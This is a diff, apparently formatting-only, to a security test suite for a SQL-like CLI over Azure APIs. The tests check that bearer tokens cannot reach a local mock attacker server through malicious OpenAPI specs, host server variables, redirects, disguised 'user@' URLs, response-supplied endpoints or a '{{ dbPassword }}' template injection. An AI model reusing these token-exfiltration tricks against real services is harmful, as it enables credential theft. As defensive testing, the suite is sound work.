@@ -44,7 +44,17 @@ async function startAttacker(): Promise<Attacker> {
   });
   await new Promise<void>((resolve) => server.listen(0, '127.0.0.2', resolve));
   const host = `127.0.0.2:${(server.address() as AddressInfo).port}`;
-  return { origin: `http://${host}`, host, tokens, requests, close: () => new Promise((resolve) => { server.closeAllConnections(); server.close(() => resolve()); }) };
+  return {
+    origin: `http://${host}`,
+    host,
+    tokens,
+    requests,
+    close: () =>
+      new Promise((resolve) => {
+        server.closeAllConnections();
+        server.close(() => resolve());
+      }),
+  };
 }
 
 let azure: MockServer;
@@ -57,18 +67,27 @@ beforeAll(async () => {
   attacker = await startAttacker();
   azure = await startMockServer([
     http.get(`*${FACTORIES}`, () => HttpResponse.json({ value: factoryNames.map((name) => ({ name, location: 'westeurope' })) })),
-    http.get('*/subscriptions/s/resourceGroups/rg/providers/Microsoft.DataFactory/factories/fac/pipelines', () => HttpResponse.json({ value: factoryNames.map((name) => ({ name })) })),
+    http.get('*/subscriptions/s/resourceGroups/rg/providers/Microsoft.DataFactory/factories/fac/pipelines', () =>
+      HttpResponse.json({ value: factoryNames.map((name) => ({ name })) }),
+    ),
     http.post('*/factories/:factory/pipelines/:pipeline/createRun', async ({ params }) => {
       if (params.pipeline === 'broken') return HttpResponse.json({ error: { code: 'PipelineNotFound', message: 'no such pipeline' } }, { status: 404 });
       if (params.pipeline === 'slow') await delay(5_000);
       return HttpResponse.json({ runId: `run-${String(params.pipeline)}` });
     }),
     http.get('*/factories/redirect', () => new HttpResponse(null, { status: 307, headers: { location: `${attacker.origin}/stolen` } })),
-    http.get('*/factories/echo', ({ request }) => HttpResponse.json({ error: { code: 'InvalidAuthenticationToken', message: `The token '${request.headers.get('authorization')}' is not valid.` } }, { status: 401 })),
+    http.get('*/factories/echo', ({ request }) =>
+      HttpResponse.json(
+        { error: { code: 'InvalidAuthenticationToken', message: `The token '${request.headers.get('authorization')}' is not valid.` } },
+        { status: 401 },
+      ),
+    ),
   ]);
   dir = mkdtempSync(join(tmpdir(), 'skyql-hosts-'));
 });
-afterAll(async () => { await Promise.all([azure.close(), attacker.close()]); });
+afterAll(async () => {
+  await Promise.all([azure.close(), attacker.close()]);
+});
 beforeEach(() => {
   azure.reset();
   attacker.tokens.length = 0;
@@ -90,23 +109,48 @@ function cli(registry = join(mkdtempSync(join(dir, 'reg-')), 'providers')) {
 }
 
 function engine(extra: EngineOptions = {}) {
-  return createEngine({ auth: { azure: { type: 'bearer', credentialsenvvar: 'AZURE_TOKEN' } }, env: { AZURE_TOKEN: TOKEN }, endpoints: { azure: azure.origin }, pacing: false, ...extra });
+  return createEngine({
+    auth: { azure: { type: 'bearer', credentialsenvvar: 'AZURE_TOKEN' } },
+    env: { AZURE_TOKEN: TOKEN },
+    endpoints: { azure: azure.origin },
+    pacing: false,
+    ...extra,
+  });
 }
 
 /** An OpenAPI 3 document the attacker ships with a script. */
 function spec(serverUrl: string, variables?: Record<string, unknown>): string {
   const file = join(mkdtempSync(join(dir, 'spec-')), 'report.json');
-  writeFileSync(file, JSON.stringify({
-    openapi: '3.0.3',
-    info: { title: 'Report', version: '1' },
-    servers: [{ url: serverUrl, ...(variables && { variables }) }],
-    paths: { '/things': { get: { operationId: 'Things_List', responses: { 200: { description: 'ok', content: { 'application/json': { schema: { type: 'object', properties: { value: { type: 'array', items: { type: 'object', properties: { name: { type: 'string' } } } } } } } } } } } } },
-  }));
+  writeFileSync(
+    file,
+    JSON.stringify({
+      openapi: '3.0.3',
+      info: { title: 'Report', version: '1' },
+      servers: [{ url: serverUrl, ...(variables && { variables }) }],
+      paths: {
+        '/things': {
+          get: {
+            operationId: 'Things_List',
+            responses: {
+              200: {
+                description: 'ok',
+                content: {
+                  'application/json': {
+                    schema: { type: 'object', properties: { value: { type: 'array', items: { type: 'object', properties: { name: { type: 'string' } } } } } },
+                  },
+                },
+              },
+            },
+          },
+        },
+      },
+    }),
+  );
   return file;
 }
 
 describe('a script cannot send the token to a host of its choosing', () => {
-  it('REGISTRY ADD of a spec on the attacker\'s host with the ARM audience is refused before anything is written', async () => {
+  it("REGISTRY ADD of a spec on the attacker's host with the ARM audience is refused before anything is written", async () => {
     const { out, run } = cli();
     const code = await run('exec', `REGISTRY ADD '${spec(attacker.origin)}' AS azure.report AUDIENCE '${ARM}'; SELECT name FROM azure.report.things;`);
     expect(code).toBe(1);
@@ -114,7 +158,7 @@ describe('a script cannot send the token to a host of its choosing', () => {
     expect(attacker.tokens).toEqual([]);
   });
 
-  it('REGISTRY ADD cannot replace a bundled service: later ordinary queries still go to the user\'s endpoint', async () => {
+  it("REGISTRY ADD cannot replace a bundled service: later ordinary queries still go to the user's endpoint", async () => {
     const { out, run, registry } = cli();
     const code = await run('exec', `REGISTRY ADD '${spec(attacker.origin)}' AS azure.data_factory`);
     expect(code).toBe(1);
@@ -126,10 +170,13 @@ describe('a script cannot send the token to a host of its choosing', () => {
     expect(azure.requests.map((request) => request.headers.authorization)).toEqual([`Bearer ${TOKEN}`]);
   });
 
-  it('a {host} server variable cannot move a token off its audience\'s hosts', async () => {
+  it("a {host} server variable cannot move a token off its audience's hosts", async () => {
     const { out, run } = cli();
     const file = spec('http://{host}', { host: { default: 'management.azure.com' } });
-    const code = await run('exec', `REGISTRY ADD '${file}' AS azure.report AUDIENCE '${ARM}'; SELECT name FROM azure.report.things WHERE host = '${attacker.host}';`);
+    const code = await run(
+      'exec',
+      `REGISTRY ADD '${file}' AS azure.report AUDIENCE '${ARM}'; SELECT name FROM azure.report.things WHERE host = '${attacker.host}';`,
+    );
     expect(code).toBe(1);
     expect(out.stderr).toMatch(/error\[(AUTH_UNTRUSTED_HOST|PLAN_INVALID_VALUE|PLAN_INSECURE_URL)\]/);
     expect(attacker.tokens).toEqual([]);
@@ -156,8 +203,17 @@ describe('a script cannot send the token to a host of its choosing', () => {
 
   it('a provider the user gave no credentials for gets no token (no fallback to az login)', async () => {
     const added = cli();
-    expect(await added.run('exec', `REGISTRY ADD '${spec(azure.origin)}' AS petstore.report AUDIENCE 'api://report/.default'`, '--endpoint', `petstore=${azure.origin}`)).toBe(0);
-    const error = await rejectionOf(engine({ userRegistry: added.registry, endpoints: { azure: azure.origin, petstore: azure.origin } }).query('SELECT name FROM petstore.report.things'));
+    expect(
+      await added.run(
+        'exec',
+        `REGISTRY ADD '${spec(azure.origin)}' AS petstore.report AUDIENCE 'api://report/.default'`,
+        '--endpoint',
+        `petstore=${azure.origin}`,
+      ),
+    ).toBe(0);
+    const error = await rejectionOf(
+      engine({ userRegistry: added.registry, endpoints: { azure: azure.origin, petstore: azure.origin } }).query('SELECT name FROM petstore.report.things'),
+    );
     expect(error.code).toBe('AUTH_NO_CREDENTIAL');
     expect(error.details?.provider).toBe('petstore');
   });
@@ -175,7 +231,10 @@ describe('a script cannot send the token to a host of its choosing', () => {
   it('INSERT … SELECT … FROM never takes a host from the rows a response gave', async () => {
     factoryNames = [attacker.origin];
     const { out, run } = cli();
-    const code = await run('exec', "INSERT INTO azure.synapse_artifacts.pipelines_runs (endpoint, pipelineName) SELECT name, 'p' FROM azure.data_factory.factories WHERE subscriptionId = 's'");
+    const code = await run(
+      'exec',
+      "INSERT INTO azure.synapse_artifacts.pipelines_runs (endpoint, pipelineName) SELECT name, 'p' FROM azure.data_factory.factories WHERE subscriptionId = 's'",
+    );
     expect(code).toBe(1);
     expect(out.stderr).toMatch(/error\[PLAN_INVALID_VALUE\]/);
     expect(attacker.tokens).toEqual([]);
@@ -185,7 +244,13 @@ describe('a script cannot send the token to a host of its choosing', () => {
   it('cloud data is never expanded as a template', async () => {
     factoryNames = ['x{{ dbPassword }}'];
     const { out, run } = cli();
-    const code = await run('exec', "INSERT INTO azure.data_factory.pipelines_runs (subscriptionId, resourceGroupName, factoryName, pipelineName) SELECT 's', 'rg', 'fac', name FROM azure.data_factory.pipelines WHERE subscriptionId = 's' AND resourceGroupName = 'rg' AND factoryName = 'fac'", '--var', 'dbPassword=hunter2', '--http-log');
+    const code = await run(
+      'exec',
+      "INSERT INTO azure.data_factory.pipelines_runs (subscriptionId, resourceGroupName, factoryName, pipelineName) SELECT 's', 'rg', 'fac', name FROM azure.data_factory.pipelines WHERE subscriptionId = 's' AND resourceGroupName = 'rg' AND factoryName = 'fac'",
+      '--var',
+      'dbPassword=hunter2',
+      '--http-log',
+    );
     expect(code).toBe(0);
     expect(out.stdout + out.stderr).not.toContain('hunter2');
     const paths = azure.requests.map((request) => request.path);
@@ -197,7 +262,10 @@ describe('a script cannot send the token to a host of its choosing', () => {
 describe('what the server says cannot leak the token', () => {
   it('a server error that quotes the Authorization header is shown without the token', async () => {
     const { out, run } = cli();
-    const code = await run('exec', "SELECT name FROM azure.data_factory.factories WHERE subscriptionId = 's' AND resourceGroupName = 'rg' AND factoryName = 'echo'");
+    const code = await run(
+      'exec',
+      "SELECT name FROM azure.data_factory.factories WHERE subscriptionId = 's' AND resourceGroupName = 'rg' AND factoryName = 'echo'",
+    );
     expect(code).toBe(1);
     expect(out.stderr).toMatch(/error\[HTTP_STATUS\].*InvalidAuthenticationToken/);
     expect(out.stdout + out.stderr).not.toContain(TOKEN);
@@ -205,7 +273,8 @@ describe('what the server says cannot leak the token', () => {
 });
 
 describe('an action that stops part way says what happened', () => {
-  const runs = (pipelines: string[]) => `INSERT INTO azure.data_factory.pipelines_runs (subscriptionId, resourceGroupName, factoryName, pipelineName) VALUES ${pipelines.map((name) => `('s', 'rg', 'fac', '${name}')`).join(', ')} RETURNING runId`;
+  const runs = (pipelines: string[]) =>
+    `INSERT INTO azure.data_factory.pipelines_runs (subscriptionId, resourceGroupName, factoryName, pipelineName) VALUES ${pipelines.map((name) => `('s', 'rg', 'fac', '${name}')`).join(', ')} RETURNING runId`;
 
   it('a 4-row INSERT failing on row 3 reports rows 1–2 with their runIds, row 3 failed, row 4 not sent', async () => {
     const { out, run } = cli();
@@ -248,14 +317,33 @@ describe('fan-out is counted before it is built', () => {
 
 describe('the transport checks every request, whatever gave its URL', () => {
   const plan = (url: string): RequestPlan => ({
-    method: 'GET', url, headers: { accept: 'application/json' }, provider: 'azure', audience: ARM, operation: 'azure.x.y.get',
-    expectedStatus: [200], longRunning: false, idempotent: true,
+    method: 'GET',
+    url,
+    headers: { accept: 'application/json' },
+    provider: 'azure',
+    audience: ARM,
+    operation: 'azure.x.y.get',
+    expectedStatus: [200],
+    longRunning: false,
+    idempotent: true,
   });
   const deps = (): ExecDeps => {
     const clock = { now: () => Date.now(), sleep: async () => {} };
     return {
-      http: createUndiciClient(), clock, random: () => 0.5, lroPollMs: 1, retry: { maxAttempts: 1, baseDelayMs: 1, maxDelayMs: 1, budgetMs: 1 },
-      tokens: () => ({ token: async () => TOKEN, cached: () => TOKEN }), limiter: new RateLimiter(clock, 32, false), hosts: new CredentialHosts({ azure: azure.origin }), answers: new SqliteAnswers(), requests: { fromTemplate: () => { throw new Error('no templates here'); } },
+      http: createUndiciClient(),
+      clock,
+      random: () => 0.5,
+      lroPollMs: 1,
+      retry: { maxAttempts: 1, baseDelayMs: 1, maxDelayMs: 1, budgetMs: 1 },
+      tokens: () => ({ token: async () => TOKEN, cached: () => TOKEN }),
+      limiter: new RateLimiter(clock, 32, false),
+      hosts: new CredentialHosts({ azure: azure.origin }),
+      answers: new SqliteAnswers(),
+      requests: {
+        fromTemplate: () => {
+          throw new Error('no templates here');
+        },
+      },
     };
   };
 
@@ -266,12 +354,14 @@ describe('the transport checks every request, whatever gave its URL', () => {
   });
 
   it('a redirect is not followed: the token never reaches its target', async () => {
-    const error = await rejectionOf(engine().query("SELECT name FROM azure.data_factory.factories WHERE subscriptionId = 's' AND resourceGroupName = 'rg' AND factoryName = 'redirect'"));
+    const error = await rejectionOf(
+      engine().query("SELECT name FROM azure.data_factory.factories WHERE subscriptionId = 's' AND resourceGroupName = 'rg' AND factoryName = 'redirect'"),
+    );
     expect(error.code).toBe('HTTP_STATUS');
     expect(attacker.requests).toEqual([]);
   });
 
-  it('a URL that only looks like the user\'s endpoint is refused', async () => {
+  it("a URL that only looks like the user's endpoint is refused", async () => {
     const disguised = `${azure.origin.replace('http://', 'http://user@')}/x`;
     const error = await rejectionOf(sendWithRetries(plan(disguised), { method: 'GET', url: disguised }, deps()));
     expect(error.code).toBe('AUTH_UNTRUSTED_HOST');
@@ -286,9 +376,16 @@ it('a query whose signal is already aborted ends with HTTP_ABORTED, sending noth
 
 it('cutting an echoed token out of a response never damages the response: only real, long tokens are cut', async () => {
   // A one-letter "token" (as test doubles use) must not turn every "t" of a list into REDACTED.
-  const shortToken = createEngine({ credential: { getToken: async () => ({ token: 't', expiresOnTimestamp: Date.now() + 3_600_000 }) }, endpoints: { azure: azure.origin }, pacing: false });
+  const shortToken = createEngine({
+    credential: { getToken: async () => ({ token: 't', expiresOnTimestamp: Date.now() + 3_600_000 }) },
+    endpoints: { azure: azure.origin },
+    pacing: false,
+  });
   factoryNames = ['factory-t1', 'factory-t2'];
   const { rows } = await shortToken.query("SELECT name, location FROM azure.data_factory.factories WHERE subscriptionId = 's'");
-  expect(rows).toEqual([{ name: 'factory-t1', location: 'westeurope' }, { name: 'factory-t2', location: 'westeurope' }]);
+  expect(rows).toEqual([
+    { name: 'factory-t1', location: 'westeurope' },
+    { name: 'factory-t2', location: 'westeurope' },
+  ]);
   await shortToken.close();
 });
